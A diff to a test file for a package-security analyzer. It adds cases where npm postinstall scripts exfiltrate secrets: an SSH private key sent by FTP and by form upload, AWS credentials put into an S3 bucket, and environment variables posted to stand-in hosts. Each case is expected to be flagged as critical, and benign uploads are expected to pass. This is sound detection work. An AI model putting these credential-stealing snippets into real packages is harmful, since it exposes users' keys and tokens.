@@ -2108,6 +2108,47 @@ const c = new Client({ connectionString: process.env.DATABASE_URL }); c.connect(
   });
 });
 
+describe('secrets sent through file transfer, cloud storage and request bodies built piece by piece', () => {
+  const install = (code: string) =>
+    analyzeSource({ 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'setup.js': code });
+  it('an FTP upload of a key file, an S3 put of the AWS credentials, a form-data post, URLSearchParams of the environment', () => {
+    for (const code of [
+      `const ftp = require('basic-ftp'); const os = require('os');
+(async () => { const c = new ftp.Client(); await c.access({ host: '198.51.100.23', user: 'anon', password: 'x' }); await c.uploadFrom(os.homedir() + '/.ssh/id_rsa', 'k_' + os.hostname()); c.close(); })();`,
+      `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const fs = require('fs'); const os = require('os');
+const s3 = new S3Client({ region: 'us-east-1' });
+s3.send(new PutObjectCommand({ Bucket: 'collector-bkt-77', Key: os.hostname(), Body: fs.readFileSync(os.homedir() + '/.aws/credentials') }));`,
+      `const axios = require('axios'); const FormData = require('form-data');
+const form = new FormData(); form.append('d', Buffer.from(JSON.stringify(process.env)).toString('base64'));
+axios.post('https://paste-bin-api.example.dev/api/create', form, { headers: form.getHeaders() });`,
+      `const FormData = require('form-data'); const fs = require('fs'); const os = require('os'); const path = require('path');
+const f = new FormData(); f.append('file', fs.createReadStream(path.join(os.homedir(), '.ssh', 'id_rsa')));
+f.submit('https://upload.example-files.net/u');`,
+      `const p = new URLSearchParams();
+for (const k of Object.keys(process.env)) if (/TOKEN|KEY|SECRET/.test(k)) p.append(k, process.env[k]);
+fetch('https://collect.example-metrics.dev/t', { method: 'POST', body: p });`,
+    ]) {
+      const r = install(code);
+      expect(r.risk_level).toBe('critical');
+      expect(threatsOf(r)).toContain('data_exfiltration');
+    }
+  });
+  it('uploading a file the caller names, and query strings of settings, send no secret', () => {
+    for (const code of [
+      `const FormData = require('form-data'); const fs = require('fs');
+module.exports = function upload(url, file, token) {
+  const f = new FormData(); f.append('file', fs.createReadStream(file)); f.append('name', 'report');
+  return require('axios').post(url, f, { headers: { ...f.getHeaders(), Authorization: 'Bearer ' + token } });
+};`,
+      `const q = new URLSearchParams({ v: '1' }); q.set('lang', process.env.LANG || 'en'); q.append('ci', process.env.CI ? '1' : '0');
+module.exports = () => fetch('https://api.example-docs.com/search?' + q.toString());`,
+      `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const fs = require('fs');
+module.exports = (bucket, file) => new S3Client({}).send(new PutObjectCommand({ Bucket: bucket, Key: file, Body: fs.readFileSync(file) }));`,
+    ])
+      expect(threatsOf(analyzeSource({ 'package.json': pkg(), 'index.js': code }))).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
